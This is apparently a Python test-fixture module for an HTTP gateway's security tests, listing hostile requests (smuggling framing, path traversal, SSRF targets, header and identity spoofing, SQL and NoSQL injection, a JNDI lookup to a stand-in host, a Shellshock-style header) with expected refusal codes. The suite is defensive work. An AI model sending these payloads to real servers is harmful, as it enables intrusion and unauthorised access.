"""Hostile requests as a table: what is sent, what comes back, whether an upstream may see it.

A row is (name, bytes, expected, seen). `expected` is the status of the first answer; 0 is a closed
connection without one. `seen` is how many requests reach the upstream. `in_c` is both of these where
gunicorn's parser in C differs from the one in Python (docs/decisions/0007). `{cookie}` becomes the
session cookie of somebody signed in. Every path that only a smuggled request would have contains
`smuggled`, and no upstream may ever see one.
"""

from typing import NamedTuple

END = b"\r\n\r\n"
SMUGGLED = b"GET /public/smuggled HTTP/1.1\r\nHost: a\r\n\r\n"


class Hostile(NamedTuple):
    """One row."""

    name: str
    request: bytes
    expected: int
    seen: int = 0
    in_c: tuple[int, int] | None = None


def _get(target: bytes, *lines: bytes, method: bytes = b"GET", version: bytes = b"1.1") -> bytes:
    head = [method + b" " + target + b" HTTP/" + version, b"Host: a", *lines]
    return b"\r\n".join(head) + END


def _post(*lines: bytes, body: bytes = b"") -> bytes:
    return _get(b"/public", *lines, method=b"POST") + body


CHUNKED, LENGTH = b"Transfer-Encoding: chunked", b"Content-Length: "
OK_CHUNKS = b"1\r\nx\r\n0\r\n\r\n"


def _framing() -> list[Hostile]:
    """Where a body ends (RFC 9112, 6 and 7)."""
    both = [
        ("length, then chunked", [LENGTH + b"6", CHUNKED]),
        ("chunked, then length", [CHUNKED, LENGTH + b"6"]),
        ("chunked and length 0", [CHUNKED, LENGTH + b"0"]),
        ("chunked twice", [CHUNKED, CHUNKED]),
        ("chunked, chunked", [CHUNKED + b", chunked"]),
    ]
    lengths = [
        b"+5", b"-1", b"0x5", b"5 5", b"5,5", b"5, 6", b"", b"a", b"5;", b"1e1", b"5.0", b"\xb2",
        b"5\x0b", b"'5'", b"5_0",
    ]  # fmt: skip
    # 501: the server's word for a coding it does not know (RFC 9112, 6.1), before our code. The
    # parser in C says 400 to them all.
    codings = [
        (b"xchunked", 501), (b"identity", 400), (b"gzip", 400), (b"chunked, identity", 400),
        (b"identity, chunked", 400), (b"chunked;q=1", 501), (b"\x0bchunked", 400),
        (b'"chunked"', 501), (b"chunk", 501), (b"", 501), (b"gzip, chunked", 400),
        (b"chunked\x00", 400), (b"chunked ,", 501),
    ]  # fmt: skip
    chunks = [
        b"zz\r\n", b"-1\r\nx\r\n", b"+1\r\nx\r\n", b"0x1\r\nx\r\n", b"1 \r\nx\r\n0\r\n\r\n",
        b"1\nx\n0\n\n", b"1\r\nxx\r\n0\r\n\r\n", b"1_0\r\nx\r\n",
        b"\r\nx\r\n", b"1;a\nb\r\nx\r\n0\r\n\r\n",
        b"2\r\nx\r\n\r\n0\r\n\r\n\x00", b"g\r\n",
        b"1\r\nx0\r\n\r\n",
    ]  # fmt: skip
    rows = [Hostile(name, _post(*lines, body=b"0\r\n\r\n" + SMUGGLED), 400) for name, lines in both]
    rows += [
        Hostile(f"length {value!r}", _post(LENGTH + value, body=b"hello" + SMUGGLED), 400)
        for value in lengths
    ]
    rows += [
        Hostile(
            f"coding {value!r}",
            _post(b"Transfer-Encoding: " + value, body=OK_CHUNKS),
            status,
            in_c=(400, 0),
        )
        for value, status in codings
    ]
    rows += [Hostile(f"chunk {body[:24]!r}", _post(CHUNKED, body=body), 400) for body in chunks]
    # An extension is dropped whatever is in it; the parser in C looks for a bare CR or LF only.
    odd = b"1;\x00\r\nx\r\n0\r\n\r\n"
    rows.append(
        Hostile("a NUL in a chunk's extension", _post(CHUNKED, body=odd), 400, in_c=(200, 1))
    )
    fold = b"Transfer-Encoding:\r\n chunked"
    return [
        *rows,
        Hostile("a length of 23 digits", _post(LENGTH + b"9" * 23), 413, in_c=(400, 0)),
        Hostile("a length of 2^64", _post(LENGTH + b"18446744073709551616"), 413, in_c=(400, 0)),
        Hostile("two lengths", _post(LENGTH + b"3", LENGTH + b"4", body=b"abcd"), 400),
        Hostile("the same length twice", _post(LENGTH + b"3", LENGTH + b"3", body=b"abc"), 400),
        Hostile("space before the colon", _post(b"Content-Length : 5", body=b"hello"), 400),
        Hostile("tab before the colon", _post(b"Transfer-Encoding\t: chunked"), 400),
        Hostile("folded coding", _post(fold, body=OK_CHUNKS), 400),
        Hostile("folded length", _post(b"Content-Length:\r\n 5", body=b"hello"), 400),
        Hostile("length hidden by a bare CR", _post(b"X: a\rContent-Length: 5"), 400),
        Hostile("length hidden by a bare LF", _post(b"X: a\nContent-Length: 5\n"), 400),
        Hostile("chunked in HTTP/1.0",
                _get(b"/public", CHUNKED, method=b"POST", version=b"1.0") + OK_CHUNKS, 400),
        Hostile("length with an underscore is none",
                _post(b"Content_Length: 47", body=SMUGGLED.replace(b"smuggled", b"second")), 200, 2),
        Hostile(
            "a chunk of 17 digits",
            _post(CHUNKED, body=b"f" * 17 + b"\r\n" + b"x" * 2000),
            413,
            in_c=(400, 0),
        ),
        Hostile("a trailer that is no field is dropped like any",
                _post(CHUNKED, body=b"1\r\nx\r\n0\r\nX y: z\r\n\r\n"), 200, 1),
        Hostile("GET with a body hides nothing in it",
                _get(b"/public", LENGTH + b"%d" % len(SMUGGLED)) + SMUGGLED, 200, 1),
        Hostile("HEAD with a body hides nothing in it",
                _get(b"/public", LENGTH + b"%d" % len(SMUGGLED), method=b"HEAD") + SMUGGLED, 200, 1),
        Hostile("401 with a body hides nothing in it",
                _get(b"/echo", LENGTH + b"%d" % len(SMUGGLED)) + SMUGGLED, 401),
        Hostile("404 with a chunked body hides nothing in it",
                _get(b"/no", CHUNKED, method=b"POST")
                + b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED), 404),
        Hostile("413 with a body hides nothing in it",
                _post(LENGTH + b"2000", body=b"x" * 1000 + SMUGGLED), 413),
        Hostile("an upgrade to h2c hides nothing",
                _get(b"/public", b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings",
                     b"HTTP2-Settings: AAMAAABkAAQAAP__"), 200, 1),
    ]  # fmt: skip


def _targets() -> list[Hostile]:
    """List targets (RFC 9112, 3.2). A path that two servers could read in two ways is 400."""
    refused = [
        b"http://169.254.169.254/", b"http://a/public", b"https://a/public", b"a:80", b"*", b"public",
        b"//public", b"//evil.test/public", b"/public//x", b"///", b"/\\evil.test", b"/public\\x",
        b"/public/../echo", b"/public/..", b"/public/./x", b"/.", b"/..", b"/public/%2e%2e/echo",
        b"/public/%2E%2e/echo", b"/public/.%2e/echo", b"/public/%2e/x", b"/public/%252e%252e/echo",
        b"/public/%25252e%25252e/echo", b"/public/..;/echo", b"/public/..;a=b/echo",
        b"/public/..%3b/echo", b"/public/%2e%2e;/echo", b"/public/;/../echo", b"/public%2fecho",
        b"/public%2Fecho", b"/public%252fecho", b"/public%5cecho", b"/public%255cecho", b"/%2fpublic",
        b"/public%00", b"/public/%00/x", b"/public%2500", b"/public%0a", b"/public%0d%0aX:%20y",
        b"/public%", b"/public%2", b"/public%zz", b"/public%u002e", b"/public\xff", b"/publi\xc3\xa7",
        b"/public\x7f", b"/public#frag", b"/public?x#frag", b"/public?\xff", b"/public\x00",
        b"/public\x0b", b"/public\x01", b"?x=1", b"", b"@evil.test/", b"/public/%c0%ae%c0%ae%2fecho",
        b"/public/..%252f", b"/public/%2e.", b"/public/..%00/echo", b"/public/..\\echo",
        b"javascript:alert(1)", b"file:///etc/passwd", b"/public/%5c..%5cecho", b"/%2e%2e/echo",
    ]  # fmt: skip
    elsewhere = [
        (b"/publicx", 404), (b"/Public", 404), (b"/PUBLIC", 404), (b"/%70ublic", 404),
        (b"/publi%63", 404), (b"/public;/../x", 400), (b"/public%20", 404), (b"/echo;x", 404),
        (b"/.env", 404), (b"/.git/config", 404), (b"/metrics", 404), (b"/admin/sessions", 404),
        (b"/console", 404), (b"/server-status", 404), (b"/echo/", 401), (b"/%65cho", 404),
        (b"/auth/verify/..%2f", 400), (b"/boss/x", 401), (b"/session/data/a%00b", 400),
    ]  # fmt: skip
    return [
        *(Hostile(f"target {target!r}", _get(target), 400) for target in refused),
        *(Hostile(f"elsewhere {target!r}", _get(target), status) for target, status in elsewhere),
        Hostile("a target of 9,000 bytes", _get(b"/public/" + b"a" * 9000), 414),
        Hostile("a query of 9,000 bytes", _get(b"/public?" + b"a" * 9000), 414),
        Hostile("1,000 segments", _get(b"/public" + b"/a" * 1000), 200, 1),
        Hostile("dots that mean nothing", _get(b"/public/.../x"), 200, 1),
    ]


def _lines() -> list[Hostile]:
    """List request lines, and what ends a line (RFC 9112, 2 and 3)."""
    bad = [
        b"GET /public\r\nHost: a", b"GET\t/public\tHTTP/1.1\r\nHost: a",
        b"GET /public HTTP/1.1 \r\nHost: a", b" GET /public HTTP/1.1\r\nHost: a",
        b"GET /public x HTTP/1.1\r\nHost: a", b"GET /public HTTP/9.9\r\nHost: a",
        b"GET /public HTTP/2.0\r\nHost: a", b"GET /public HTTP/1.10\r\nHost: a",
        b"GET /public http/1.1\r\nHost: a", b"GET /public HTTP/1,1\r\nHost: a",
        b"GET /public HTTP/0.9\r\nHost: a", b"GET /public ICY/1.1\r\nHost: a",
        b"GET /public HTTP/1.1\nHost: a\n\n", b"GET /public HTTP/1.1\r\nHost: a\n\n",
        b"GET /public HTTP/1.1\rHost: a\r\r", b"\x00GET /public HTTP/1.1\r\nHost: a",
        b"GE(T /public HTTP/1.1\r\nHost: a", b"/public HTTP/1.1\r\nHost: a",
        b"HTTP/1.1 200 OK\r\nHost: a", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"PRI * HTTP/2.0\r\n\r\nSM", b"GET /public HTTP/1.1\r\n Host: a",
        b"GET /public HTTP/1.1\r\nHost: a\r\n: empty", b"GET /public HTTP/1.1\r\nHost: a\r\nX",
    ]  # fmt: skip
    # Either way these are the same words, and they are written anew for a server behind.
    wide = [b"GET  /public HTTP/1.1\r\nHost: a", b"GET /public  HTTP/1.1\r\nHost: a"]
    rows = [Hostile(f"line {text[:36]!r}", text + END, 400) for text in bad]
    return rows + [Hostile(f"line {line!r}", line + END, 400, in_c=(200, 1)) for line in wide]


def _hosts() -> list[Hostile]:
    """Exactly one well-formed Host that is served here (RFC 9112, 3.2)."""
    values = [
        b"", b"evil.test", b"a, b", b"a b", b"a\tb", b"a/b", b"a@evil.test", b"evil.test@a", b"a:port",
        b"a:80:80", b"a:999999", b"[::1", b"[g::]", b"a?x", b"a#x", b"a\\b", b"\xc3\xa7", b"a%00",
        b"http://a", b"*", b"a,", b"a\x0b", b"evil.test:a", b"-", b"..", b"a.evil.test",
    ]  # fmt: skip
    rows = [
        Hostile(f"host {value!r}", b"GET /public HTTP/1.1\r\nHost: " + value + END, 400)
        for value in values
    ]
    return [
        *rows,
        Hostile("no host", b"GET /public HTTP/1.1" + END, 400),
        Hostile("no host in HTTP/1.0", b"GET /public HTTP/1.0" + END, 400),
        Hostile("two hosts", _get(b"/public", b"Host: a"), 400),
        Hostile("two different hosts", _get(b"/public", b"Host: b"), 400),
        Hostile("a folded host", b"GET /public HTTP/1.1\r\nHost:\r\n a" + END, 400),
        Hostile("a host after a space", b"GET /public HTTP/1.1\r\nHost : a" + END, 400),
        Hostile(
            "a host with an underscore is none", b"GET /public HTTP/1.1\r\nHo_st: a" + END, 400
        ),
        Hostile("another host forwarded", _get(b"/public", b"X-Forwarded-Host: evil"), 200, 1),
    ]


def _fields() -> list[Hostile]:
    """Names and values of fields (RFC 9110, 5)."""
    bad = [
        b"X\x00: a", b"X: a\x00b", b"X: a\rb", b"X: a\nb", b"X Y: a", b"X\t: a", b"X : a", b": a",
        b"X", b"X(: a", b"X\xff: a", b"X: a\x08", b"X: a\x7f", b"X[]: a", b"X{}: a", b'"X": a',
        b"X,Y: a", b"X/Y: a", b"X@: a", b"X=: a", b"X\\: a", b" X: a", b"\tX: a", b"X;: a",
    ]  # fmt: skip
    taken = [
        # Bytes above ASCII are legal in a value, UTF-8 or not (RFC 9110, 5.5).
        b"X:", b"X: \xc3\xa9", b"X: \xff\xfe", b"Origin: \xff", b"X: " + b"a" * 8000, b"Range: bytes=0-0," + b"1-1," * 500,
        b"If-None-Match: " + b'"a",' * 500, b"Accept: " + b"*/*;q=0.1," * 500,
        b"Accept: text/html;q=x", b"Accept-Encoding: " + b"gzip;q=0," * 500, b"Connection: ,,,",
        b"Connection: close, close", b"Via: " + b"1.1 x, " * 500, b"Max-Forwards: -1",
        b"Max-Forwards: 99999999999999999999", b"X-Request-Id: " + b"a" * 500,
        b'X-Request-Id: "><script>', b"traceparent: 00-" + b"0" * 32 + b"-1-1", b"Expect: 200-ok",
        b"traceparent: " + b"a" * 5000, b"tracestate: " + b"a=b," * 500,
        b"Sec-Fetch-Site: cross-site", b"TE: trailers, deflate;q=0.5", b"Referer: javascript:x",
        b"User-Agent: () { :; }; /bin/true", b"User-Agent: ${jndi:ldap://evil.test/x}",
        b"Authorization: Basic Og==", b"Authorization: Bearer " + b"a" * 8000, b"Upgrade: TLS/1.0",
        b"X-HTTP-Method-Override: DELETE", b"Content-Type: \x09", b"Accept-Language: " + b"x" * 5000,
    ]  # fmt: skip
    return [
        *(Hostile(f"field {line[:24]!r}", _get(b"/public", line), 400) for line in bad),
        *(Hostile(f"taken {line[:24]!r}", _get(b"/public", line), 200, 1) for line in taken),
        Hostile("a field of 17,000 bytes", _get(b"/public", b"X: " + b"a" * 17_000), 431),
        Hostile("a name of 17,000 bytes", _get(b"/public", b"X" * 17_000 + b": a"), 431),
        Hostile("200 fields", _get(b"/public", *(b"X%d: 1" % n for n in range(200))), 431),
        Hostile("10,000 fields", _get(b"/public", *(b"X: 1" for _ in range(10_000))), 431),
    ]


def _methods() -> list[Hostile]:
    """Only what is registered goes on (RFC 9110, 9)."""
    refused = [
        (b"TRACE", 405), (b"TRACK", 405), (b"CONNECT", 405), (b"BREW", 405), (b"GETX", 405),
        (b"DEBUG", 405), (b"get", 400), (b"Get", 400), (b"G", 400), (b"GET\x00", 400),
        (b"G" * 5000, 400), (b"PURGE", 405), (b"LINK", 405), (b"\xff", 400),
    ]  # fmt: skip
    return [
        *(
            Hostile(f"method {m[:9]!r}", _get(b"/public", method=m), status)
            for m, status in refused
        ),
        *(
            Hostile(f"own {m!r} {path!r}", _get(path, LENGTH + b"0", method=m), 405)
            for m, path in [
                (b"POST", b"/session"),
                (b"DELETE", b"/healthz"),
                (b"PUT", b"/auth/verify"),
                (b"POST", b"/.well-known/jwks.json"),
                (b"PATCH", b"/login"),
                (b"PROPFIND", b"/session"),
                (b"GET", b"/session/rotate"),
                (b"POST", b"/problems"),
                (b"MOVE", b"/logout"),
            ]  # fmt: skip
        ),
        Hostile("CONNECT by its own form", b"CONNECT a:80 HTTP/1.1\r\nHost: a" + END, 400),
        Hostile("OPTIONS of everything", b"OPTIONS * HTTP/1.1\r\nHost: a" + END, 400),
    ]


def _identities() -> list[Hostile]:
    """Whoever is nobody stays nobody, whatever fields tell; whoever is somebody stays that one."""
    claims = [
        b"X-Auth-User: boss", b"X_Auth_User: boss", b"X.Auth.User: boss", b"X-Auth-Roles: boss",
        b"X-Auth-Session: s_x", b"X-Auth-Assertion: a.b.c", b"X-Forwarded-User: boss",
        b"Remote-User: boss", b"X-Remote-User: boss", b"Authorization: Basic Ym9zczpib3Nz",
        b"Authorization: Bearer boss", b"X-Holdfast-Service-Token: x", b"X-Real-IP: 127.0.0.1",
        b"X-Forwarded-For: 127.0.0.1", b"Forwarded: for=127.0.0.1;by=127.0.0.1", b"X-Original-URL: /public",
        b"X-Rewrite-URL: /public", b"X-Forwarded-Uri: /public", b"X-Forwarded-Prefix: /public",
        b"X-Session-Passive: 1", b"Connection: Cookie", b"X-HTTP-Method-Override: GET",
        b"X-Original-URI: /healthz", b"X-Forwarded-Method: OPTIONS", b"User-Agent: kube-probe/1.30",
        b"User-Agent: GoogleHC/1.0", b"X-Auth-User: boss\r\nX-Auth-User: boss",
    ]  # fmt: skip
    return [
        *(Hostile(f"claim {c[:28]!r}", _get(b"/echo", c), 401) for c in claims),
        *(
            Hostile(f"{path.decode()} for a member", _get(path, b"Cookie: {cookie}", claims[3]), 403)
            for path in (b"/boss", b"/boss/x", b"/auth/verify?role=boss")
        ),
        Hostile("verify believes no field", _get(b"/auth/verify", *claims[:6]), 401),
        Hostile("verify below believes no field", _get(b"/auth/verify/public", *claims[:6]), 401),
        Hostile("a cross-site verify", _get(b"/auth/verify/x", b"Origin: https://evil.test",
                LENGTH + b"0", method=b"POST"), 403),
        Hostile("OPTIONS is no way in", _get(b"/echo", method=b"OPTIONS"), 401),
        Hostile("a preflight is no way in", _get(b"/echo", b"Origin: https://evil.test",
                b"Access-Control-Request-Method: GET", method=b"OPTIONS"), 204),
        Hostile("HEAD is no way in", _get(b"/echo", method=b"HEAD"), 401),
    ]  # fmt: skip


def _cookies() -> list[Hostile]:
    """No cookie makes an error of ours, none but the right one opens anything."""
    full = b"A" * 44
    values = [
        b"holdfast=", b"holdfast", b"holdfast=*", b"holdfast=" + full, b"holdfast=" + full[:-1],
        b"holdfast=" + full + b"A", b"holdfast=" + b"A" * 8000, b"holdfast=\xff" * 9,
        b"holdfast=%00", b"holdfast=../../x", b"holdfast=" + b"-" * 44, b'holdfast="' + full + b'"',
        b"holdfast=a; holdfast=b", b"{cookie}; holdfast=" + full, b"holdfast=" + full + b"; {cookie}",
        b"{cookie}x", b"x{cookie}", b"Holdfast=" + full, b"__Host-holdfast=" + full,
        b"__host-holdfast=" + full, b"$Version=1; holdfast=" + full, b"; ; ;", b"=", b"holdfast:x",
        b"a=1,{cookie}", b"holdfast=" + full + b"=", b"holdfast=\t", b"holdfast=*\x01",
        b"holdfast=" + b"\xc3\xa9" * 22, b";" * 5000, b"a=b; " * 2000,
    ]  # fmt: skip
    rows = []
    for value in values:
        status = 400 if b"\x01" in value else 401
        rows.append(
            Hostile(
                f"cookie {len(value)} {value[:56]!r}", _get(b"/echo", b"Cookie: " + value), status
            )
        )
    return [
        *rows,
        Hostile("two Cookie fields that differ", _get(b"/echo", b"Cookie: {cookie}",
                b"Cookie: holdfast=" + full), 401),
        Hostile("two Cookie fields that agree", _get(b"/echo", b"Cookie: {cookie}",
                b"Cookie: {cookie}"), 200, 1),
        Hostile("a cookie that another name hides", _get(b"/echo", b"X-Cookie: {cookie}",
                b"Cookie_: {cookie}"), 401),
    ]  # fmt: skip


JSON = b"Content-Type: application/json"


def _call(method: bytes, path: bytes, body: bytes, *lines: bytes) -> bytes:
    return _get(path, *lines, LENGTH + b"%d" % len(body), method=method) + body


def _bodies() -> list[Hostile]:
    """Bodies of the session API and of sign-in: a clear answer, never an error of ours."""
    patch, login = b"/session/data", b"/login"
    texts = [
        (b"", 400), (b"{", 400), (b"[]", 422), (b"null", 422), (b'{"ops": []}', 422),
        (b"\xff\xfe", 400), (b"\xef\xbb\xbf{}", 400), (b"[" * 60_000, 422), (b'{"ops": NaN}', 400),
        (b'{"ops": [{"op": "set", "name": "__proto__", "value": ' + b"1" * 5000 + b"}]}", 422),
        (b'{"ops": [{"op": "set", "name": "a"}]}', 422), (b'{"ops": [{"op": "eval"}]}', 422),
        (b'{"ops": [{"op": "increment", "name": "a", "by": 1e400}]}', 422),
        (b'{"ops": [{"op": "set", "name": "a\\u0000", "value": 1}]}', 422),
        (b'{"ops": [{"op": "set", "name": "../x", "value": 1}]}', 422),
        (b'{"ops": [' + b'{"op": "delete", "name": "a"},' * 300 + b"]}", 400),
        (b'{"ops": [], "ops": 1}', 422), (b"{} {}", 400), (b'{"ops": "' + b"x" * 300_000 + b'"}', 413),
        (b'{"ops": [{"op": "set", "name": "a", "value": "' + b"x" * 20_000 + b'"}]}', 413),
    ]  # fmt: skip
    logins = [
        (b"", 400), (b"{", 400), (b"[]", 422), (b'{"username": {"$gt": ""}, "password": "x"}', 422),
        (b'{"username": "\' OR 1=1 --", "password": "x"}', 403), (b"{}", 403), (b'"x"', 422),
        (b'{"username": "\\ud800", "password": "x"}', 400), (b"[" * 30_000, 422),
        (b'{"username": "a\\u0000b", "password": "x"}', 403), (b"\xff", 400), (b"x" * 70_000, 413),
        (b'{"username": "' + b"a" * 60_000 + b'", "password": "x"}', 403),
    ]  # fmt: skip
    kinds = [
        b"text/plain",
        b"application/xml",
        b"multipart/form-data",
        b"",
        b"application/jsonx",
        b"*/*",
    ]
    own = b"Cookie: {cookie}"
    return [
        *(Hostile(f"patch {len(t)} {t[:44]!r}", _call(b"PATCH", patch, t, JSON, own), s) for t, s in texts),
        *(Hostile(f"login {t[:30]!r}", _call(b"POST", login, t, JSON), s) for t, s in logins),
        *(Hostile(f"type {k!r}", _call(b"PATCH", patch, b"{}", b"Content-Type: " + k, own), 415)
          for k in kinds),
        Hostile("more than the route takes", _post(LENGTH + b"1025", body=b"x" * 1025), 413),
        Hostile("much more, told before", _post(LENGTH + b"99999999999"), 413),
        Hostile("more in chunks", _post(CHUNKED, body=b"401\r\n" + b"x" * 1025 + b"\r\n0\r\n\r\n"), 413),
        Hostile("as much as the route takes", _post(LENGTH + b"1024", body=b"x" * 1024), 200, 1),
        Hostile("a logout from another site", _call(b"POST", b"/logout", b"",
                b"Origin: https://evil.test", own), 403),
        Hostile("a logout by a frame", _call(b"POST", b"/logout", b"", b"Sec-Fetch-Site: cross-site",
                own), 403),
        Hostile("a login from another site", _call(b"POST", login, b"{}", JSON, b"Origin: null"), 403),
    ]  # fmt: skip


FAMILIES: dict[str, list[Hostile]] = {
    "framing": _framing(),
    "targets": _targets(),
    "lines": _lines(),
    "hosts": _hosts(),
    "fields": _fields(),
    "methods": _methods(),
    "identities": _identities(),
    "cookies": _cookies(),
    "bodies": _bodies(),
}
